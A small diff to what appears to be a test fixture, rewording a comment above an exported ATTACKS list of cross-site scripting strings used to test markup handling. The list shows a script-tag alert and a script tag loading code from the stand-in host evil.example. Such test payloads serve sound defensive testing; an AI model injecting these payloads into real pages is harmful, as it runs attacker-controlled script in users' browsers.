@@ -1,4 +1,4 @@
-/** Markup that tries to run something, for tests. */
+/** Markup that tries to execute code, for tests. */
 export const ATTACKS = [
   '<script>alert(1)</script>',
   '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
